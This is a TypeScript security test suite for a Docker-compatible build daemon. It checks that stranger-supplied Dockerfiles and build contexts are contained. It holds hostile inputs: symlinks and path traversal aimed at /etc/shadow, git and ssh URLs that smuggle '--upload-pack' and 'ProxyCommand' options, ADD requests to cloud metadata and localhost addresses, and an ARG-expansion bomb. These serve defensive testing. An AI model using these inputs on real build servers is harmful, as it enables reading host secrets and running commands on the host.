import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { mkdtemp, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { createServer, request, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import type { TestContext } from "node:test";
import { run, type RunResult } from "../../src/kit/subprocess.ts";
import type { TestDaemon } from "../e2e/daemon.ts";
import { loadImages } from "../e2e/images.ts";
import { archiveOf, type Sample } from "../kit/tar/samples.ts";
import { attacks } from "./shared-daemon.ts";

/* Group C of the attack list, through the daemon: the Dockerfile, its context, or both are a stranger's. */

const attack = attacks();
const program = join(import.meta.dirname, "../../bin/duet");
const secretOfHost = await readFile("/etc/shadow", "latin1");

async function ready(daemon: TestDaemon): Promise<void> {
  if ((await daemon.docker("image", "ls", "-q", "busybox")) === "")
    await loadImages(daemon, "busybox");
}

/** The classic endpoint, which takes any tar that anybody makes. */
async function post(daemon: TestDaemon, members: readonly Sample[], query = ""): Promise<string> {
  const asked = request({ socketPath: daemon.socket, method: "POST", path: `/build?${query}` });
  asked.setHeader("Content-Type", "application/x-tar");
  asked.end(archiveOf(members));
  const [response] = (await once(asked, "response")) as [IncomingMessage];
  const body = await text(response);
  assert.doesNotMatch(body, /INTERNAL|at .*\.ts:\d/);
  return body;
}

async function build(
  daemon: TestDaemon,
  dockerfile: string,
  ...words: string[]
): Promise<RunResult> {
  await ready(daemon);
  return await run(
    program,
    ["--host", `unix://${daemon.socket}`, "build", "--progress", "plain", ...words, "-"],
    {
      signal: AbortSignal.timeout(300_000),
      okCodes: "any",
      env: { DOCKER_CONFIG: join(daemon.folder, "docker-config") },
      input: dockerfile,
    },
  );
}

async function refused(
  daemon: TestDaemon,
  dockerfile: string,
  why: RegExp,
  ...words: string[]
): Promise<void> {
  const { code, stderr } = await build(daemon, dockerfile, ...words);
  assert.equal(code, 1, stderr);
  assert.match(stderr, why);
  assert.doesNotMatch(stderr, /INTERNAL|at .*\.ts:\d/);
}

const file = (name: string, data: string): Sample => ({ kind: "file", name, data });
const link = (name: string, linkName: string): Sample => ({ kind: "symlink", name, linkName });

attack(
  "a Dockerfile, an ignore file or a copied file that is a link leads to nothing of the host (C43)",
  async (daemon) => {
    await ready(daemon);
    const [line = ""] = secretOfHost.split("\n");
    const contexts: readonly (readonly Sample[])[] = [
      [link("Dockerfile", "/etc/shadow")],
      [link("Dockerfile", "../../../../../../etc/shadow")],
      [
        file("Dockerfile", "FROM busybox\nCOPY stolen /s\nRUN cat /s"),
        link("stolen", "/etc/shadow"),
      ],
      [
        file("Dockerfile", "FROM busybox\nCOPY up/etc/shadow /s\nRUN cat /s"),
        link("up", "../../../../.."),
      ],
      [file("Dockerfile", "FROM busybox\nADD s* /s/\nRUN cat /s/*"), link("stolen", "/etc/shadow")],
      [
        file("Dockerfile", "FROM busybox\nRUN --mount=type=bind,target=/c cat /c/stolen"),
        link("stolen", "../../../etc/shadow"),
      ],
      [
        file(
          "Dockerfile",
          "FROM busybox\nRUN --mount=type=bind,source=up/etc,target=/c cat /c/shadow",
        ),
        link("up", "/"),
      ],
      [
        link(".dockerignore", "/etc/shadow"),
        file("Dockerfile", "FROM busybox\nCOPY . /all\nRUN cat /all/.dockerignore"),
      ],
    ];
    for (const members of contexts) {
      const shown = await post(daemon, members);
      assert.ok(!shown.includes(line), shown);
    }
    assert.match(
      await post(daemon, [file("Dockerfile", "FROM busybox")], "dockerfile=../../../etc/shadow"),
      /"message"|error/,
    );
  },
);

attack(
  "links in the image lead COPY and WORKDIR nowhere outside of it (C43, A2)",
  async (daemon, place) => {
    const dockerfile = `FROM busybox AS evil
RUN ln -s ${place.outside} /out && ln -s ../../../../../.. /up && mkdir /d && ln -s ${place.outside}/canary /d/canary
FROM evil
COPY --from=evil /bin/busybox /out/planted
COPY --from=evil /bin/busybox /up/planted
WORKDIR /out/made
COPY --from=evil /d/canary /taken
RUN true`;
    const { code, stderr } = await build(daemon, dockerfile);
    assert.equal(code, 1, "the canary is not in the image");
    assert.match(stderr, /canary.*not found/);
  },
);

attack(
  "repositories and folders of them that are options or lead outside are refused (C44)",
  async (daemon) => {
    for (const [add, why] of [
      ["ADD git@--upload-pack=touch:x /x", /.+/],
      ["ADD https://example.invalid/r.git#main:../../etc /x", /subdir|invalid/i],
      ["ADD https://example.invalid/r.git#--upload-pack=touch /x", /ref|invalid/i],
      ["ADD ssh://-oProxyCommand=touch/r.git /x", /invalid/i],
    ] as const) {
      await refused(daemon, `FROM busybox\n${add}`, why);
    }
    for (const remote of [
      "--upload-pack=touch.git",
      "ext::sh -c id",
      "file:///etc",
      "https://example.invalid/r.git#x:../..",
    ]) {
      const body = await post(daemon, [], `remote=${encodeURIComponent(remote)}`);
      assert.match(body, /"message"|"error"/, remote);
    }
  },
);

attack(
  "what RUN writes to a mounted tree is gone with it, and the next build sees the client's files (C47)",
  async (daemon) => {
    await ready(daemon);
    const shown = await post(daemon, [
      file(
        "Dockerfile",
        `FROM busybox
RUN --mount=type=bind,target=/c,rw echo poisoned > /c/word && touch /c/new && cat /c/word
RUN --mount=type=bind,target=/c cat /c/word; ls /c
COPY . /all
RUN cat /all/word; ls /all`,
      ),
      file("word", "clean\n"),
    ]);
    assert.match(shown, /poisoned/);
    assert.equal([...shown.matchAll(/"stream":"clean\\n/g)].length, 2, shown);
    assert.doesNotMatch(shown, /"stream":"new\\n/);
  },
);

attack(
  "a secret is in no layer, history, cache entry or log of the daemon (C47, F83)",
  async (daemon) => {
    const secret = `hidden-${Math.random().toString(36).slice(2)}`;
    const folder = await mkdtemp(join(tmpdir(), "duet-secret-"));
    try {
      await writeFile(join(folder, "s"), secret);
      const dockerfile =
        'FROM busybox\nRUN --mount=type=secret,id=s,env=S --mount=type=secret,id=s,target=/x/y test -n "$S" && test -s /x/y && md5sum /x/y > /seen';
      const built = await build(
        daemon,
        dockerfile,
        "--secret",
        `id=s,src=${folder}/s`,
        "-t",
        "withsecret",
      );
      assert.equal(built.code, 0, built.stderr);
    } finally {
      await rm(folder, { recursive: true });
    }
    const found = execFileSync(
      "sh",
      ["-c", `grep -rlaF -- "$0" "$1/data" "$1/run" "$1/duetd.log" || true`, secret, daemon.folder],
      { encoding: "utf8" },
    );
    assert.equal(found, "");
    const left = await daemon.tryDocker(["run", "--rm", "withsecret", "cat", "/x/y"]);
    assert.equal(left.stdout.toString(), "");
  },
);

attack("an image that claims to be a step's result is not taken for it (C48)", async (daemon) => {
  await ready(daemon);
  const dockerfile = "FROM busybox\nRUN echo true > /who\nCMD cat /who";
  /* Somebody brings an image whose history tells of the same step on the same base. */
  await daemon.docker("create", "--name", "liar", "busybox");
  const folder = await mkdtemp(join(tmpdir(), "duet-liar-"));
  try {
    await writeFile(join(folder, "who"), "false\n");
    await daemon.docker("cp", join(folder, "who"), "liar:/who");
  } finally {
    await rm(folder, { recursive: true });
  }
  await daemon.docker(
    "commit",
    "-c",
    "CMD cat /who",
    "-m",
    "buildkit.dockerfile.v0",
    "liar",
    "lie",
  );
  await daemon.docker("rm", "liar");
  const built = await build(daemon, dockerfile, "-t", "honest");
  assert.equal(built.code, 0, built.stderr);
  assert.equal(await daemon.docker("run", "--rm", "honest"), "true\n");
  for (const changed of [
    "ENV A=1\n",
    "ARG B=2\n",
    "USER 1\n",
    "WORKDIR /w\n",
    'SHELL ["/bin/sh","-ec"]\n',
  ]) {
    const { stderr } = await build(
      daemon,
      `FROM busybox\n${changed}RUN id > /tmp/x; echo ran-4711`,
    );
    assert.match(stderr, /\d ran-4711/, `${changed}was not looked at`);
  }
});

attack(
  "a front end, privileges and the host's network are not for a Dockerfile to take (C49)",
  async (daemon) => {
    await refused(
      daemon,
      "# syntax=registry.invalid/evil/frontend:1\nFROM busybox",
      /frontend|syntax|front end/i,
    );
    await refused(
      daemon,
      "FROM busybox",
      /frontend|syntax|front end/i,
      "--build-arg",
      "BUILDKIT_SYNTAX=registry.invalid/evil",
    );
    await refused(daemon, "FROM busybox\nRUN --security=insecure id", /insecure/);
    await refused(daemon, "FROM busybox\nRUN --network=host id", /network\.host/);
    const allowed = await build(
      daemon,
      "# syntax=docker/dockerfile:1.7\nFROM busybox\nRUN grep CapEff /proc/self/status; ls /dev; mount -t tmpfs x /mnt && echo mounted-4711",
    );
    assert.equal(allowed.code, 1);
    assert.doesNotMatch(allowed.stderr, /\d mounted-4711/);
  },
);

attack("Dockerfiles that are endless, explode or never match are bounded (C50)", async (daemon) => {
  const bomb = [
    "FROM busybox",
    "ARG A=xxxxxxxxxx",
    ...Array.from({ length: 40 }, () => "ARG A=$A$A$A$A"),
    "RUN echo $A",
  ].join("\n");
  await refused(daemon, bomb, /too much text/);
  await refused(
    daemon,
    `FROM busybox\nRUN <<EOF\n${"echo\n".repeat(10)}`,
    /unterminated|heredoc|EOF/i,
  );
  const wild = await build(daemon, `FROM busybox\nCOPY ${"*a".repeat(500)} /x`);
  assert.equal(wild.code, 0, "a pattern that matches nothing copies nothing");
  const long = await build(daemon, `FROM busybox\n${"# nothing\n".repeat(600_000)}`);
  assert.equal(long.code, 0, long.stderr.slice(-500));
  await refused(daemon, `FROM busybox\n${"ENV A=b\n".repeat(200_000)}`, /.+/);
});

attack(
  "ADD reaches no address of the host's own, and runs nothing that it fetched (C51, B33)",
  async (daemon, _place, context: TestContext) => {
    const server = createServer((_request, response) =>
      response.end("#!/bin/sh\ntouch /tmp/ran-4711\n"),
    );
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
    context.after(() => server.close());
    const { port } = server.address() as AddressInfo;
    for (const url of [
      "http://169.254.169.254/latest/meta-data",
      `http://127.0.0.1:${port}/x`,
      `http://localhost:${port}/x`,
      "http://[::1]/x",
      "http://0/x",
    ]) {
      await refused(daemon, `FROM busybox\nADD ${url} /x`, /may not fetch|not a|invalid/i);
    }
    await refused(daemon, "FROM busybox\nADD file:///etc/shadow /x", /not found|invalid/);
  },
);

attack(
  "names of caches, mounts and here-documents are no paths of the host (A30)",
  async (daemon, place) => {
    const dockerfile = `FROM busybox
RUN --mount=type=cache,id=../../../../../../../..${place.outside},target=/c echo planted > /c/planted
RUN mkdir -p /l && ln -s ${place.outside} /l/out
RUN --mount=type=cache,target=/l/out/sub echo planted > /l/out/sub/planted
RUN --mount=type=tmpfs,target=/l/out/t echo planted > /l/out/t/x
COPY <<planted /l/out/
text
planted
RUN true`;
    const { code, stderr } = await build(daemon, dockerfile);
    assert.equal(code, 0, stderr);
  },
);

attack("a context of a client that is links only gives what lies in it (C43)", async (daemon) => {
  const folder = await mkdtemp(join(tmpdir(), "duet-links-"));
  try {
    await writeFile(
      join(folder, "Dockerfile"),
      "FROM busybox\nCOPY . /all\nRUN cat /all/shadow; cat /all/etc/shadow; ls -l /all",
    );
    await symlink("/etc/shadow", join(folder, "shadow"));
    await symlink("/etc", join(folder, "etc"));
    const result = await run(
      program,
      ["--host", `unix://${daemon.socket}`, "build", "--progress", "plain", folder],
      {
        signal: AbortSignal.timeout(300_000),
        okCodes: [0, 1],
      },
    );
    const [line = ""] = secretOfHost.split("\n");
    assert.ok(!result.stderr.includes(line));
  } finally {
    await rm(folder, { recursive: true });
  }
});
